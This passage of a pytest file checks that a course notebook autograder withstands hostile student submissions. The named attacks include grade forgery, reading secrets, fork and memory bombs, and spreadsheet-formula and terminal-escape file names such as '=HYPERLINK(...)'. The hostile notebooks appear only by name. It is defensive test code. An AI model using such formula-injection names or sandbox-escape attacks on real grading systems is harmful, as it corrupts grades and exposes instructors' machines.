    alive2 = settled_survivors()

    header, rows = read_rows(out) if out.exists() else ([], [])
    return {
        "builder": builder, "proc": proc, "seconds": seconds, "out": out, "header": header,
        "rows": rows, "by_name": {r[0]: dict(zip(header, r, strict=True)) for r in rows},
        "csv_bytes": csv_bytes, "csv_later": csv_later, "alive": alive, "alive2": alive2,
        "before": before, "after": after_first, "package_before": package_before,
        "package_after": snapshot(package),
        "env_before": env_before, "env_after": environment_listing(), "proc2": proc2,
        "later": read_rows(out2) if out2.exists() else ([], []), "paths": paths, "home": home,
        "instructor": instructor, "listener": listener,
    }  # fmt: skip


def row_of(attack, name: str) -> dict:
    from coursenn.instructor.gradebook import clean, spreadsheet_safe

    key = spreadsheet_safe(clean(name))
    assert key in attack["by_name"], (key, sorted(attack["by_name"]))
    return attack["by_name"][key]


# --- the run itself ----------------------------------------------------------------------------


def test_the_grader_survives_and_grades_every_submission(attack):
    proc = attack["proc"]
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")[-3000:]
    assert attack["header"] == ["notebook", "passed", "total", "error", *LABELS]
    assert len(attack["rows"]) == len(attack["builder"].expected)  # no forged extra rows
    print(f"\nattack run: {len(attack['rows'])} notebooks in {attack['seconds']:.1f} s")


SUBMISSIONS = [
    "correct.ipynb", "blank.ipynb", "classmate.ipynb",
    "forge_compare.ipynb", "forge_print_json.ipynb", "forge_hooks.ipynb", "forge_settrace.ipynb",
    "forge_import.ipynb", "forge_shadow_package.ipynb", "forge_frames.ipynb",
    "forge_patch_reference.ipynb", "forge_public_cases.ipynb", "forge_display.ipynb",
    "oracle_reference.ipynb", "oracle_library.ipynb",
    "reads_source.ipynb", "reads_classmates.ipynb", "reads_grader.ipynb", "reads_home.ipynb",
    "reads_network.ipynb",
    "damages_package.ipynb", "damages_startup.ipynb", "damages_classmate.ipynb",
    "damages_daemon.ipynb", "damages_forkbomb.ipynb", "damages_memory.ipynb",
    "damages_memory_children.ipynb", "damages_tmpfs.ipynb",
    "gradebook_formula.ipynb", "gradebook_escapes.ipynb",
]  # fmt: skip


@pytest.mark.parametrize("name", SUBMISSIONS)
def test_each_submission_gets_exactly_its_row(attack, name):
    want = attack["builder"].expected[name]
    row = row_of(attack, name)
    marks = {label: row[label] for label in LABELS}
    assert marks == want["marks"], (marks, row["error"])
    passed = sum(int(v) for v in want["marks"].values())
    assert (row["passed"], row["total"]) == (str(passed), str(len(LABELS))), row
    if want["exact"] is not None:
        assert row["error"] == want["exact"], row["error"]
    for fragment in want["errors"]:
        assert fragment in row["error"], (fragment, row["error"])
    assert len(row["error"]) <= 601, len(row["error"])  # capped (plus a leading ')


@pytest.mark.parametrize("name", sorted(n for n in SUBMISSIONS if n.startswith("forge_")))
def test_forgery_is_reported_when_it_reaches_for_the_grader(attack, name):
    """Patching the grading machinery is named in the error column (reported, not scored)."""
    row = row_of(attack, name)
    if name in ("forge_compare.ipynb", "forge_print_json.ipynb", "forge_display.ipynb",
                "forge_public_cases.ipynb", "forge_patch_reference.ipynb",
                "forge_shadow_package.ipynb"):  # fmt: skip
        return  # plain Python, or files written: nothing to name, the 0 is the answer
    assert "(reported, not scored)" in row["error"], row["error"]


def test_the_packages_own_reference_is_not_an_answer(attack):
    """Handing in the registry's reference function (ch01-nand) or the library's layers under
    names the source check cannot see (ch01-forward, "only numpy") must not pass: those are
    correct values the student did not compute."""
    registry, library = (
        row_of(attack, "oracle_reference.ipynb"),
        row_of(attack, "oracle_library.ipynb"),
    )
    assert registry["ch01-nand"] == "0" and "has no attribute 'get'" in registry["error"], registry
    assert library["ch01-forward"] == "0" and "运行时查找名字" in library["error"], library


# --- reading -------------------------------------------------------------------------------------


def test_no_secret_reaches_the_gradebook_the_terminal_or_the_network(attack):
    proc = attack["proc"]
    text = attack["csv_bytes"].decode() + proc.stdout.decode() + proc.stderr.decode()
    leaked = {where: s for where, s in SECRETS.items() if s in text}
    assert not leaked, leaked
    assert "SOLUTION-SEEN" not in text
    assert attack["listener"].received == []


def test_the_exfiltration_channel_itself_works(attack):
    """The reading attacks' own text does reach the error column: what they found is nothing."""
    for name in ("reads_source.ipynb", "reads_classmates.ipynb", "reads_grader.ipynb",
                 "reads_home.ipynb", "reads_network.ipynb"):  # fmt: skip
        error = row_of(attack, name)["error"]
        assert "EXFIL-OK " in error, (name, error)
        assert PREFIX not in error, (name, error)
    assert "CONNECTED" not in row_of(attack, "reads_network.ipynb")["error"]


# --- damage ----------------------------------------------------------------------------------------


def test_instructor_files_and_submissions_are_byte_identical(attack):
    """The --source chapter, $HOME, the secret file and every submission (the gradebook aside)."""
    before, after = attack["before"], attack["after"]
    out = str(attack["out"])
    assert sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k)
                  and k != out) == []  # fmt: skip
    assert not attack["paths"]["dropped"].exists()


def test_the_package_and_the_python_environment_are_unchanged(attack):
    """No file of the package written, added or removed by an attack (each writes MARK), and
    no .pth, sitecustomize or startup file anywhere Python or IPython would load one."""
    before, after = attack["package_before"], attack["package_after"]
    assert before.keys() == after.keys() or not any(
        "evil" in k for k in before.keys() ^ after.keys()
    ), sorted(before.keys() ^ after.keys())
    for path, digest in after.items():
        if before.get(path) != digest and Path(path).is_file():
            assert MARK not in Path(path).read_text(errors="replace"), path
    assert attack["env_after"] == attack["env_before"]


def test_writes_into_the_package_fail(attack):
    error = row_of(attack, "damages_package.ipynb")["error"]
    assert "wrote=[] " in error, error


def test_classmate_is_untouched_and_graded(attack):
    row = row_of(attack, "classmate.ipynb")
    assert (row["passed"], row["error"]) == (str(len(LABELS)), "")
    error = row_of(attack, "damages_classmate.ipynb")["error"]
    assert "wrote=[] " in error, error


def test_no_process_of_the_run_is_alive_afterwards(attack):
    assert attack["alive"] == []
    assert attack["alive2"] == []


def test_a_background_process_does_not_touch_the_gradebook_later(attack):
    assert attack["csv_later"] == attack["csv_bytes"]
    assert b"pwned" not in attack["csv_bytes"]


def test_a_later_blank_submission_in_a_separate_run_still_scores_zero(attack):
    assert attack["proc2"].returncode == 0, attack["proc2"].stderr.decode()[-2000:]
    header, rows = attack["later"]
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert (row["passed"], row["total"], row["error"]) == ("0", str(len(LABELS)), "")
    assert [p for p in (attack["home"] / ".ipython").rglob("*") if p.is_file()] == []


def test_the_fork_bomb_is_stopped_by_the_process_limit(attack):
    error = row_of(attack, "damages_forkbomb.ipynb")["error"]
    match = re.search(r"forks=(\d+) stopped by (\w+)", error)
    assert match, error
    assert int(match.group(1)) < 300 and match.group(2) == "BlockingIOError", error


def test_the_memory_bomb_is_stopped_by_the_memory_limit(attack):
    error = row_of(attack, "damages_memory.ipynb")["error"]
    match = re.search(r"memory=(\d+) MiB stopped by (\w+)", error)
    assert match, error
    assert int(match.group(1)) < MEMORY_MB and match.group(2) == "MemoryError", error


def test_a_notebooks_processes_together_stay_under_the_memory_limit(attack):
    """Either the children report what they held together (under the limit), or the memory
    cgroup's OOM killer ended the kernel itself: both mean the limit held for the notebook."""
    error = row_of(attack, "damages_memory_children.ipynb")["error"]
    if "the kernel died" in error:
        return
    match = re.search(r"children=(\d+) MiB", error)
    assert match, error
    assert int(match.group(1)) < MEMORY_MB, error


def test_files_in_the_private_tmp_count_against_the_memory_limit(attack):
    """The private /tmp is a tmpfs: what a notebook writes there is memory of the machine."""
    error = row_of(attack, "damages_tmpfs.ipynb")["error"]
    match = re.search(r"tmp=(\d+) MiB", error)
    assert match, error
    assert int(match.group(1)) < MEMORY_MB, error


# --- the gradebook and the terminal ------------------------------------------------------------------

_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def test_no_gradebook_cell_is_a_formula_or_holds_control_characters(attack):
    for row in attack["rows"]:
        for cell in row:
            assert not cell.startswith(_FORMULA), (cell, row[0])
            assert not _CONTROL.search(cell), (cell, row[0])
    assert b"\x1b" not in attack["csv_bytes"]


def test_the_terminal_gets_no_escape_sequence(attack):
    proc = attack["proc"]
    for stream in (proc.stdout, proc.stderr):
        text = stream.decode()
        assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
    summary = proc.stdout.decode().splitlines()
    assert len(summary) == 2 + len(attack["rows"]) + 1  # header, rule, one line each, total
    assert not any(line.strip().startswith("forged.ipynb") for line in summary)


def test_file_names_with_escapes_are_cleaned(attack):
    names = [row[0] for row in attack["rows"]]
    assert '\'=HYPERLINK("http-x","y").ipynb' in names
    assert {"'+1.ipynb", "'-1.ipynb", "'@SUM(1).ipynb"} <= set(names)
    for name in NAMES_WITH_ESCAPES:
        row = row_of(attack, name)
        assert row["passed"] == "0" and row["error"] == ""


def test_wall_time(attack):
    """Reported, not judged: the whole attack run (all notebooks, --jobs 2)."""
    assert attack["seconds"] < 600
